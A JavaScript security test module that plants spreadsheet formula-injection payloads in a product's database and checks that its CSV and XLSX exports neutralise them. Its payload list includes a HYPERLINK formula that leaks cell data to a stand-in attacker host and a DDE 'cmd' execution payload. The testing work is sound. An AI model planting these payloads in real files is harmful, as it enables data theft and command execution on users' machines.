import { stage } from './http-crowd.mjs';
import { admitted, fill, operationsOf } from './http-operations.mjs';
import { scenesOf } from './http-scenes.mjs';
import { plant, referToPeople, wordColumns } from './hostile-words.mjs';
import { download } from './import-files.mjs';
import { computing, csvRecords, liveCells, liveRecords } from './opened-exports.mjs';

/** One for each start, the first few of every kind (ASCII, form, full width); TAB, CR and LF stand before a formula, as OWASP lists them. */
const plantings = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', '\t=1+1', '＠SUM(A1:A9)', '+84+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '"=1+1', ',=1+1', ';=1+1'];
/** Codes, dates, numbers and addresses. */
const settled = /^[\w.:-]*$/;

/** Typed values, codes and sentences of ours: no words of anybody stand in them. Empty ones need not be staged. */
const typed = /At$|AsOf$|On$|^(until|materials|values|size|(installed|committed|free)Capacity|verdicts|eliminatedBy|toComplete|moved|link)$/;

const leaves = (value) => (value !== null && typeof value === 'object' ? Object.values(value).flatMap(leaves) : [value]);

/** Columns of the file in which words stand that are not ours and in which nothing was planted: nothing was tried there. */
function untried(rows) {
  const keys = Object.keys(rows[0] ?? {}).filter((key) => !typed.test(key));
  return keys.filter((key) => {
    const all = rows.flatMap((row) => leaves(row[key])).filter((value) => value !== null);
    return all.length === 0 || (all.some((value) => typeof value === 'string' && !settled.test(value)) && !all.some((value) => computing.test(String(value))));
  });
}

/**
 * Every list that leaves as a file (ADR 22), read by everybody who may, with something that computes in every field where people's
 * words stand. Overwrites the words of the whole database.
 * @param {string[]} wrong what is found is added to it
 * @param {boolean} [isShort] three starts instead of all
 */
export async function hostileLists(product, wrong, isShort) {
  const { people, ids, own } = await stage(product, scenesOf(product));
  const operations = (await operationsOf(product)).filter(({ id, isFile }) => isFile && id.startsWith('exports_'));
  await referToPeople(product.database, people.office);
  const columns = await wordColumns(product.database);
  const counted = { lists: operations.length, columnsPlanted: columns.length, files: 0, planted: 0 };
  for (const [round, text] of (isShort ? plantings.slice(0, 3) : plantings).entries()) {
    await plant(product.database, columns, text);
    for (const operation of operations) for (const kind of new Set(admitted(operation).map(([one]) => one))) {
      const path = (format) => `${fill(operation.path, { ...ids, ...own[kind] })}?format=${format}&lang=${round % 2 ? 'en' : 'vi'}`;
      const [csv, xlsx, json] = await Promise.all(['csv', 'xlsx', 'json'].map((format) => download(product, people[kind], path(format))));
      const rows = JSON.parse(json.toString());
      const name = `${operation.id} ${kind}`;
      for (const cell of liveRecords(csv)) wrong.push(`${name}: CSV computes ${JSON.stringify(cell.slice(0, 60))}`);
      for (const cell of liveCells(xlsx)) wrong.push(`${name}: XLSX ${cell}`);
      if (rows.length === 0 || csvRecords(csv.toString('utf8')).length !== rows.length + 1) wrong.push(`${name}: ${rows.length} rows, the CSV has others`);
      if (round === 0) for (const column of untried(rows)) wrong.push(`${name}: nothing was planted in ${column}: ${JSON.stringify(rows[0][column])}`);
      counted.files += 2;
      counted.planted += rows.flatMap(leaves).filter((value) => typeof value === 'string' && computing.test(value)).length;
    }
  }
  return counted;
}
